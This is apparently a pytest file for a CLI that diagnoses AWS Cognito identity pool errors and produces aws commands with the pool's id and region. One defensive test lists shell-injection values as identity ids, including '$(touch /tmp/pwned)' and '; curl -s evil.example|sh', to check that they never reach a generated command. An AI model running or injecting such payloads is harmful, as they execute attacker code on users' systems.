"""Cognito identity pools: the service's refusals and the SDKs' and Amplify's wrappers are
recognised as their family, the walk with --no-input names the cause each message implies (or
ranks those a question would choose between), the steps come out with the pool's id and region,
and an identity id that is not one never reaches a command."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from awsmedic.cli import main

FAMILY = "cognito-identity-pool"
POOL = "eu-west-1:0def4f54-71bd-42f5-b8d9-7e8811807670"
IDENTITY = "us-east-2:c3dd3507-eed8-4bdd-aadc-f2df31a12026"


def diagnose(capsys: pytest.CaptureFixture[str], text: str, *answers: str) -> dict[str, Any]:
    args = ["diagnose", "--no-probes", "--no-input", "--format", "json"]
    for answer in answers:
        args += ["--answer", answer]
    status = main([*args, text])
    output: dict[str, Any] = json.loads(capsys.readouterr().out)
    assert status == 0
    return output


def commands(output: dict[str, Any]) -> list[str]:
    return [command for step in output["steps"] for command in step["commands"]]


# Each message as an SDK prints it, and the cause it implies (the tree's comments cite them).
@pytest.mark.parametrize(
    ("text", "cause"),
    [
        (
            "com.amazonaws.services.cognitoidentity.model.InvalidIdentityPoolConfigurationException:"
            " Invalid identity pool configuration. Check assigned IAM roles for this pool."
            " (Service: AmazonCognitoIdentity; Status Code: 400; Error Code:"
            " InvalidIdentityPoolConfigurationException; Request ID:"
            " e35928a5-0370-4ebd-9845-f56d249f282e)",
            "cognito-role-trust",
        ),
        (
            '{"__type":"InvalidIdentityPoolConfigurationException","message":"Invalid identity pool'
            ' configuration. Check assigned IAM roles for this pool."}',
            "cognito-role-trust",
        ),
        (
            "Error: Token is not from a supported provider of this identity pool.",
            "cognito-provider-not-configured",
        ),
        (
            "Caused by: com.amazonaws.services.cognitoidentity.model.NotAuthorizedException: Invalid"
            " login token. Issuer doesn't match providerName (Service: AmazonCognitoIdentity; Status"
            " Code: 400; Error Code: NotAuthorizedException; Request ID:"
            " a5ef69d2-b94d-11e6-920d-518c0b562ad5)",
            "cognito-provider-not-configured",
        ),
        (
            'Domain=com.amazonaws.AWSCognitoIdentityErrorDomain Code=8 "(null)"'
            " UserInfo={__type=NotAuthorizedException, message=Invalid login token. Token expired:"
            " 1589092400 >= 1589092129}",
            "cognito-login-token-expired",
        ),
        (
            f"com.amazonaws.services.cognitoidentity.model.ResourceNotFoundException: IdentityPool"
            f" '{POOL}' not found. (Service: AmazonCognitoIdentity; Status Code: 400; Error Code:"
            " ResourceNotFoundException; Request ID: 03003761-c756-11e7-94f5-912865a69aad)",
            "cognito-pool-id-wrong",
        ),
        (
            "[WARN] 12:01.123 AWSCredentials - No Cognito Identity pool provided for unauthenticated"
            " access",
            "cognito-pool-id-wrong",
        ),
        (
            "InvalidIdentityPoolIdException: Invalid identity pool id provided.",
            "cognito-pool-id-wrong",
        ),
    ],
)
def test_a_message_that_tells_names_its_cause(
    capsys: pytest.CaptureFixture[str], text: str, cause: str
) -> None:
    output = diagnose(capsys, text)
    assert output["matches"][0]["tree"] == FAMILY
    assert output["diagnosis"]["cause"] == cause
    assert output["steps"]


def test_a_refused_guest_asks_whether_a_user_was_signed_in(
    capsys: pytest.CaptureFixture[str],
) -> None:
    text = (
        "W/AWSMobileClient: getCredentials: Failed to getCredentials from Cognito Identity\n"
        "com.amazonaws.services.cognitoidentity.model.NotAuthorizedException: Unauthenticated"
        " access is not supported for this identity pool. (Service: AmazonCognitoIdentity; Status"
        " Code: 400; Error Code: NotAuthorizedException)"
    )
    output = diagnose(capsys, text)
    assert output["matches"][0]["tree"] == FAMILY
    assert [q["id"] for q in output["questions"]] == ["cognito-user-signed-in"]
    assert output["candidates"][0]["cause"] == "cognito-guest-access-disabled"
    answered = diagnose(capsys, text, "cognito-user-signed-in=no")
    assert answered["diagnosis"]["cause"] == "cognito-guest-access-disabled"
    assert answered["diagnosis"]["confidence"] == "likely"


@pytest.mark.parametrize(
    "text",
    [
        f"NotAuthorizedException: Access to Identity '{IDENTITY}' is forbidden.",
        "NotAuthorizedException: Logins don't match. Please include at least one valid login for"
        " this identity or identity pool.",
    ],
)
def test_a_refused_identity_ranks_the_stale_identity_first(
    capsys: pytest.CaptureFixture[str], text: str
) -> None:
    output = diagnose(capsys, text)
    assert output["matches"][0]["tree"] == FAMILY
    assert output["diagnosis"] is None  # a question is left open
    ranked = [candidate["cause"] for candidate in output["candidates"]]
    assert ranked[0] == "cognito-identity-mismatch"
    assert "cognito-provider-not-configured" in ranked[:3]


def test_logins_that_do_not_match_also_point_at_the_pool_id(
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = diagnose(
        capsys,
        "message: \"Logins don't match. Please include at least one valid login for this identity"
        ' or identity pool."\n__type: "NotAuthorizedException"',
    )
    assert "cognito-pool-id-wrong" in [c["cause"] for c in output["candidates"]][:3]


def test_an_identity_pool_error_is_not_a_user_pool_sign_in(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # A user pool's own NotAuthorizedException (a wrong password) is not this family's.
    status = main(
        [
            "diagnose",
            "--no-probes",
            "--no-input",
            "--format",
            "json",
            "NotAuthorizedException: Incorrect username or password.",
        ]
    )
    output = json.loads(capsys.readouterr().out)
    assert FAMILY not in [match["tree"] for match in output["matches"]] or status != 0


def test_the_steps_use_the_pool_id_and_its_region(capsys: pytest.CaptureFixture[str]) -> None:
    text = (
        "AWSPinpointProvider - ensure credentials error : [ResourceNotFoundException: IdentityPool"
        f" '{POOL}' not found.] }}"
    )
    output = diagnose(capsys, text)
    assert output["diagnosis"]["cause"] == "cognito-pool-id-wrong"
    found = commands(output)
    assert (
        "aws cognito-identity describe-identity-pool --identity-pool-id"
        f" {POOL} --region eu-west-1" in found
    )
    assert "aws cognito-identity list-identity-pools --max-results 60 --region eu-west-1" in found


def test_the_identity_id_of_the_message_goes_into_describe_identity(
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = diagnose(
        capsys,
        f"NotAuthorizedException: Access to Identity '{IDENTITY}' is forbidden.",
        "cognito-identity-changed=yes",
    )
    assert output["diagnosis"]["cause"] == "cognito-identity-mismatch"
    assert (
        f"aws cognito-identity describe-identity --identity-id {IDENTITY} --region us-east-2"
        in commands(output)
    )


def test_a_pool_id_in_a_request_body_fills_the_steps(capsys: pytest.CaptureFixture[str]) -> None:
    text = (
        'Request body:\n{"IdentityPoolId":"' + POOL + '"}\n'
        "Error: Invalid identity pool configuration. Check assigned IAM roles for this pool."
    )
    output = diagnose(capsys, text)
    assert output["diagnosis"]["cause"] == "cognito-role-trust"
    assert (
        f"aws cognito-identity get-identity-pool-roles --identity-pool-id {POOL} --region eu-west-1"
        in commands(output)
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "us-east-1:$(touch /tmp/pwned)",
        "us-east-1:c3dd3507-eed8-4bdd-aadc-f2df31a12026;curl -s evil.example|sh",
        "us-east-1:c3dd3507-eed8-4bdd-aadc-f2df31a12026' --query 'x",
        "us-east-1:`id`",
    ],
)
def test_a_hostile_identity_id_never_reaches_a_command(
    capsys: pytest.CaptureFixture[str], hostile: str
) -> None:
    output = diagnose(
        capsys,
        f"NotAuthorizedException: Access to Identity '{hostile}' is forbidden.",
        "cognito-identity-changed=yes",
    )
    assert output["diagnosis"]["cause"] == "cognito-identity-mismatch"
    describe = [c for c in commands(output) if "describe-identity " in c + " "]
    assert describe
    for command in describe:
        words = shlex.split(command)
        assert words[words.index("--identity-id") + 1] == "<identity_id>"
        assert "pwned" not in command and "evil" not in command and "`" not in command


def test_the_endpoint_of_the_request_gives_the_region_when_no_id_is_named(
    capsys: pytest.CaptureFixture[str],
) -> None:
    text = (
        "POST https://cognito-identity.ap-south-1.amazonaws.com/ 400 (Bad Request)\n"
        "Uncaught (in promise) NotAuthorizedException: Unauthenticated access is not supported"
        " for this identity pool."
    )
    output = diagnose(capsys, text, "cognito-user-signed-in=no")
    assert any(
        command.endswith("--region ap-south-1 --query AllowUnauthenticatedIdentities")
        for command in commands(output)
    )


def test_the_pool_ids_own_region_wins_over_the_endpoint_it_was_sent_to(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # The app sent the pool's id to another region's endpoint: the pool is looked up in its own.
    text = (
        "POST https://cognito-identity.us-east-1.amazonaws.com/ 400\n"
        f"ResourceNotFoundException: IdentityPool '{POOL}' not found."
    )
    found = commands(diagnose(capsys, text))
    assert (
        f"aws cognito-identity describe-identity-pool --identity-pool-id {POOL} --region eu-west-1"
        in found
    )


def test_amplifys_empty_credentials_rank_the_pools_causes_beside_no_credentials(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Amplify v6 names its error `NoCredentials`, the AWS CLI's code for the no-credentials
    family; the message after it is the identity pool's: its causes come right after."""
    output = diagnose(
        capsys, "NoCredentials: Credentials should not be empty.\n    at assertValidationError"
    )
    ranked = [candidate["cause"] for candidate in output["candidates"]]
    assert output["matches"][0]["tree"] == "no-credentials"
    assert all(cause.startswith("cognito-") for cause in ranked[1:5]), ranked
